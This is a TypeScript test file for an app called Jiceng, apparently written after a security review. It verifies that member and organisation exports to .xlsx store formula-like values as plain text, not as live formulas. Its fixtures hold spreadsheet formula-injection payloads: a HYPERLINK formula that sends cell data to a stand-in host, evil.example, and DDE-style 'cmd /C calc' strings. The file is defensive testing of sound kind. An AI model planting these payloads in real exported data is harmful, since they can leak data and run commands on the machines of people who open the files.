/**
 * Security review #11: values that look like spreadsheet formulas (=HYPERLINK(…), +…, -…, @…) are exported as
 * plain text cells, never as formulas — Excel and LibreOffice show them as typed and run nothing.
 * (Jiceng writes no CSV export on the server: exports are .xlsx only. The import page's "下载问题清单" CSV is
 * built in the browser and prefixes such values with a single quote.)
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { describeDb } from '../helpers/db.js';
import { member, org, smallCounty } from '../helpers/factory.js';
import { exportMembers, exportOrgs } from '../../src/services/exports.js';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'jiceng-export-formulas-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const FORMULAS = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  address: "+1+cmd|' /C calc'!A0",
  workUnit: "-2+3+cmd|' /C calc'!A0",
  jobTitle: "@SUM(1+1)*cmd|' /C calc'!A0",
  nativePlace: '=1+1',
};

/** The XML of each worksheet of an .xlsx (a zip: local file headers, deflated or stored). */
function sheetXml(file: string): string[] {
  const buf = readFileSync(file);
  const out: string[] = [];
  for (let i = 0; i + 30 < buf.length;) {
    if (buf.readUInt32LE(i) !== 0x04034b50) break;
    const method = buf.readUInt16LE(i + 8);
    let size = buf.readUInt32LE(i + 18);
    const nameLen = buf.readUInt16LE(i + 26);
    const extraLen = buf.readUInt16LE(i + 28);
    const flags = buf.readUInt16LE(i + 6);
    const name = buf.toString('utf8', i + 30, i + 30 + nameLen);
    const start = i + 30 + nameLen + extraLen;
    if (flags & 0x08) {
      // sizes follow the data (streamed zip): find the data descriptor
      let j = start;
      while (j < buf.length && buf.readUInt32LE(j) !== 0x08074b50) j++;
      size = j - start;
      i = j + 16;
    } else {
      i = start + size;
    }
    if (/^xl\/worksheets\/sheet\d+\.xml$/.test(name)) {
      const data = buf.subarray(start, start + size);
      out.push((method === 8 ? inflateRawSync(data) : data).toString('utf8'));
    }
  }
  return out;
}

async function cellsOf(file: string): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const cells: ExcelJS.Cell[] = [];
  wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
  return cells;
}

describeDb('formula-looking values in exports', (h) => {
  it('writes them as text cells, not formulas, in the member roster (full and masked)', async () => {
    const ctx = h.ctx();
    await smallCounty(ctx);
    await member(ctx, 'V11', FORMULAS.name, {
      address: FORMULAS.address,
      workUnit: FORMULAS.workUnit,
      jobTitle: FORMULAS.jobTitle,
      nativePlace: FORMULAS.nativePlace,
    });
    for (const full of [true, false]) {
      const file = join(dir, `members-${full}.xlsx`);
      await exportMembers(ctx, 'C', {}, { path: file }, { full });
      const cells = await cellsOf(file);
      const expected = Object.entries(FORMULAS).filter(([k]) => full || k !== 'address');
      for (const [field, value] of expected) {
        const found = cells.filter((c) => c.value === value);
        expect(found, `${field} (full=${full})`).toHaveLength(1);
        const c = found[0]!;
        expect(c.type, field).toBe(ExcelJS.ValueType.String);
        expect(c.formula, field).toBeUndefined();
        expect(typeof c.value, field).toBe('string');
      }
      expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
      // and in the file itself: no formula element at all, the values as inline text
      const xml = sheetXml(file).join('');
      expect(xml).toContain('HYPERLINK');
      expect(xml).not.toMatch(/<f[ >]/);
    }
  });

  it('writes them as text cells in the org list too', async () => {
    const ctx = h.ctx();
    await smallCounty(ctx);
    await org(ctx, 'V13', '=HYPERLINK("http://evil.example/","点我")', 'T1', { address: '@SUM(1+1)' });
    const file = join(dir, 'orgs.xlsx');
    await exportOrgs(ctx, 'C', { path: file });
    const cells = await cellsOf(file);
    for (const v of ['=HYPERLINK("http://evil.example/","点我")', '@SUM(1+1)']) {
      const c = cells.find((x) => x.value === v);
      expect(c?.type, v).toBe(ExcelJS.ValueType.String);
      expect(c?.formula, v).toBeUndefined();
    }
    expect(sheetXml(file).join('')).not.toMatch(/<f[ >]/);
  });
});
